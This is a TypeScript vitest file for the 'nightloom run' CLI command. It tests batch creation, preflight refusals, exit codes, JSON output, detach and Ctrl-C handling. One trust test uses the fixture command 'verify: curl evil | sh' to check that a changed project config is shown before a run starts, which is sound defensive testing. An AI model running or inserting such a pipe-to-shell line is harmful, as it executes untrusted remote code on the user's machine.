import { mkdir, mkdtemp, realpath, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type {
  BatchView,
  EventView,
  PreflightView,
  RegisteredProject,
  RequirementView,
} from '../../../src/contracts/views.ts';
import { startApi } from './api-server.ts';
import type { Answers, ApiServer } from './api-server.ts';
import { runCli } from './run-cli.ts';
import type { CliOptions, CliResult } from './run-cli.ts';
import { batchView, reportOf, taskView } from './views.ts';

let repository: string;
let api: ApiServer;

beforeEach(async () => {
  repository = await realpath(await mkdtemp(join(tmpdir(), 'nightloom-run-')));
  await mkdir(join(repository, '.git'));
  await mkdir(join(repository, 'sub'));
});

afterEach(async () => {
  await api.close();
  await rm(repository, { recursive: true, force: true });
});

const requirement = (name: string, fields: Partial<RequirementView> = {}): RequirementView => ({
  name,
  title: name,
  bytes: 10,
  sha256: 'x',
  gitState: 'tracked',
  slashCommandReason: null,
  problem: null,
  status: 'idle',
  taskId: null,
  batchId: null,
  undelivered: null,
  ...fields,
});

const REQUIREMENTS = [
  requirement('first'),
  requirement('slash', { slashCommandReason: 'it has front matter' }),
  requirement('empty', { problem: 'it is empty' }),
  requirement('resolved', { undelivered: 'nightloom/yesterday' }),
  requirement('queued', { status: 'queued', batchId: 'b_zzzzzzzzzz' }),
  requirement('planned', { batchId: 'b_yyyyyyyyyy' }),
  requirement('last', { status: 'failed', batchId: 'b_xxxxxxxxxx' }),
];

const DONE = taskView({
  name: 'first',
  status: 'completed',
  commit: 'abcdef0'.repeat(5),
  verified: 'passed',
  attempts: 1,
  startedAt: '2026-11-21T00:00:00Z',
});
const EVENTS: EventView[] = (['task.started', 'task.completed', 'batch.completed'] as const).map((type, index) => ({
  seq: index + 1,
  id: `e${index}`,
  type,
  at: '2026-11-21T00:00:00Z',
  batch: DONE.batchId,
  task: type === 'batch.completed' ? null : DONE.id,
  data: { name: 'first' },
}));

interface Night {
  readonly end?: BatchView;
  readonly findings?: PreflightView['findings'];
  readonly requirements?: RequirementView[];
  readonly events?: EventView[];
  /** The project is registered already. */
  readonly known?: boolean;
  readonly trust?: RegisteredProject['trust'];
}

function answersOf({
  end = batchView([DONE], { status: 'completed' }),
  findings = [],
  requirements,
  known = true,
  trust = { trusted: true, changed: false, commands: ['verify: npm test'] },
}: Night): Answers {
  const project = {
    id: 'p_aaaaaaaaaa',
    name: 'repo',
    path: repository,
    host: 'h',
    createdAt: '2026-11-20T20:00:00Z',
    settings: {},
  };
  const answer = { result: 'applied' as const, status: 'running' as const, running: null, message: '' };
  return {
    listProjects: () => ({ items: known ? [project] : [], nextCursor: null }),
    projectConfiguration: () => ({
      settings: { agent: { name: 'claude', permissionMode: 'acceptEdits' } },
      origins: [{ key: 'verify', value: [{ command: 'npm test', timeoutMs: 1 }], source: 'project', file: 'x' }],
    }),
    addProject: () => ({ ...project, trust }),
    listRequirements: () => ({ items: requirements ?? REQUIREMENTS, nextCursor: null }),
    preflight: () => ({ ok: findings.every(({ level }) => level !== 'error'), findings }),
    createBatch: () => batchView([]),
    startBatch: () => answer,
    getBatch: () => end,
    report: () => reportOf([end]),
  };
}

async function run(args: readonly string[], night: Night = {}, options: Partial<CliOptions> = {}): Promise<CliResult> {
  api = await startApi(answersOf(night), night.events ?? EVENTS);
  return runCli(['run', ...args], {
    cwd: join(repository, 'sub'),
    ...options,
    env: { HOME: repository, NIGHTLOOM_URL: api.url, NIGHTLOOM_TOKEN: api.token },
  });
}

const createdWith = (): unknown => api.calls.find(({ route }) => route === 'createBatch')?.body;

describe('nightloom run', () => {
  it('takes what is not done yet, watches, and ends with the report', async () => {
    const result = await run(['--verify', 'npm test', '--name', 'Tonight']);
    expect(result.exitCode).toBe(0);
    expect(createdWith()).toEqual({
      name: 'Tonight',
      again: false,
      flags: { verify: ['npm test'] },
      tasks: ['first', 'last'].map((requirementName) => ({ projectId: 'p_aaaaaaaaaa', requirementName })),
    });
    expect(api.called().indexOf('preflight')).toBeLessThan(api.called().indexOf('createBatch'));
    expect(api.calls.find(({ route }) => route === 'addProject')?.body).toEqual({ path: repository, trust: false });
    expect(result.stderr).toContain('First task running, you can leave.');
    expect(result.stderr).toMatch(/✓ first {2}abcdef0, verified/);
    expect(result.stderr).not.toContain('\u001B');
    expect(result.stdout).toContain('Report: 1 completed');
  });

  it('says each end of a task once, also if its event never came', async () => {
    for (const events of [EVENTS, []]) {
      const { stderr } = await run([], { events });
      expect(stderr.match(/✓ first/g)).toHaveLength(1);
      await api.close();
    }
  });

  it('takes named ones in the order given, and with --again what an undelivered branch resolves', async () => {
    await run(['last.md', '.claude/commands/first.md', 'last', '--again']);
    expect(createdWith()).toMatchObject({
      again: true,
      tasks: [{ requirementName: 'last' }, { requirementName: 'first' }],
    });
    await api.close();
    await run(['--again']);
    expect(createdWith()).toMatchObject({
      tasks: ['first', 'resolved', 'last'].map((requirementName) => ({ requirementName })),
    });
  });

  it('prints one JSON document on stdout and everything else on stderr', async () => {
    const result = await run(['--json']);
    expect(JSON.parse(result.stdout)).toEqual(batchView([DONE], { status: 'completed' }));
    expect(result.stderr).toContain('✓ first');
  });

  it('is exit 1 if some task failed', async () => {
    const failure = { code: 'no_change', message: 'nothing changed', step: 'commit' as const };
    const end = batchView([DONE, taskView({ id: 't_b', name: 'b', status: 'failed', failure })], {
      status: 'completed',
    });
    const result = await run([], { end });
    expect(result.exitCode).toBe(1);
    expect(result.stdout).toContain('at commit (no_change): nothing changed');
  });

  it('refuses with every finding and its repair, the exit code of the first, and creates nothing', async () => {
    const findings: PreflightView['findings'] = [
      { level: 'error', code: 'agent_needs_login', message: 'claude is not logged in', repair: 'claude /login' },
      { level: 'error', code: 'checkout_dirty', message: '3 files are changed', repair: null },
      { level: 'warning', code: 'uncommitted', message: '2 changes are no part of the base', repair: null },
    ];
    const result = await run([], { findings });
    expect(result.exitCode).toBe(6);
    for (const { message } of findings) expect(result.stderr).toContain(message);
    expect(result.stderr).toContain('claude is not logged in (claude /login)');
    expect(result.stderr).toContain('Next: Repair these, then type the same again.');
    expect(api.called()).not.toContain('createBatch');
  });

  it('refuses with the one repair that is needed, the exit code of its category, and as a document', async () => {
    const findings: PreflightView['findings'] = [
      { level: 'error', code: 'checkout_dirty', message: '3 files are changed.', repair: 'git stash' },
    ];
    const result = await run(['--in-place', '--json'], { findings });
    expect(result).toMatchObject({
      exitCode: 5,
      stderr: '! empty is left out: it is empty\nNot started: 3 files are changed.\nNext: git stash\n',
    });
    expect(JSON.parse(result.stdout)).toMatchObject({ error: { code: 'checkout_dirty' } });
  });

  it('ends with exit 6 without a terminal when the batch needs the user', async () => {
    const hold = { reason: 'needs_login' as const, since: '2026-11-20T20:00:00Z', until: null, message: 'log in' };
    const result = await run([], { end: batchView([taskView()], { hold }), events: [] });
    expect(result.exitCode).toBe(6);
    expect(result.stderr).toContain('Next: nightloom batch resume b_aaaaaaaaaa');
  });

  it('Ctrl-C stops watching and sends the batch no command', async () => {
    const end = batchView([taskView({ status: 'running', startedAt: '2026-11-21T00:00:00Z' })]);
    let sent = false;
    const result = await run(
      ['--json'],
      { end, events: [] },
      {
        onStderr: (stderr, child) => {
          if (!sent && stderr.includes('you can leave')) sent = child.kill('SIGINT');
        },
      },
    );
    expect(result.exitCode).toBe(130);
    expect(result.stderr).toContain('Stopped watching; the batch goes on.');
    expect(JSON.parse(result.stdout)).toMatchObject({ status: 'running' });
    expect(api.called().filter((route) => route === 'pauseBatch' || route === 'cancelBatch')).toEqual([]);
  });

  it('returns at once with --detach', async () => {
    const end = batchView([taskView({ status: 'running' })]);
    const result = await run(['--detach'], { end });
    expect(result).toMatchObject({ exitCode: 0 });
    expect(result.stdout).toContain('nightloom batch show b_aaaaaaaaaa');
    expect(api.called()).not.toContain('getBatch');
  });

  it('says at the first time which commands are trusted and what the permission mode denies', async () => {
    const first = await run([], { known: false });
    expect(first.stderr).toContain('  verify: npm test\n');
    expect(first.stderr).toContain('other commands that would ask are denied');
    await api.close();
    expect((await run([])).stderr).not.toContain('Registered');
  });

  it('shows the commands of a project file that changed since it was trusted, before anything starts', async () => {
    const trust = { trusted: false, changed: true, commands: ['verify: curl evil | sh'] };
    const result = await run(['--yes'], { trust });
    expect(result.exitCode).toBe(0);
    expect(result.stderr).toMatch(
      /nightloom\.config file of repo changed since you trusted it\.\n.*\n {2}verify: curl evil/,
    );
    const posted = api.calls.filter(({ route }) => route === 'addProject').map(({ body }) => body);
    expect(posted).toEqual([
      { path: repository, trust: false },
      { path: repository, trust: true },
    ]);
    expect(api.called().lastIndexOf('addProject')).toBeLessThan(api.called().indexOf('createBatch'));
  });

  it('names what exists when a requirement does not, exit 4', async () => {
    const result = await run(['nope']);
    expect(result.exitCode).toBe(4);
    expect(result.stderr).toContain('No requirement nope in');
    expect(result.stderr).toContain('  slash');
  });

  it('says why each file is no candidate when there is nothing to run, exit 2', async () => {
    const result = await run([], { requirements: REQUIREMENTS.slice(1, 6) });
    expect(result.exitCode).toBe(2);
    for (const why of ['front matter', 'it is empty', 'nightloom/yesterday', 'queued in batch b_zzzzzzzzzz']) {
      expect(result.stderr).toContain(why);
    }
  });

  it('outside of a repository it is exit 2 before anything is asked', async () => {
    const result = await run([], {}, { cwd: tmpdir() });
    expect(result.exitCode).toBe(2);
    expect(result.stderr).toContain('is not inside a git repository.');
    expect(api.calls).toEqual([]);
  });
});
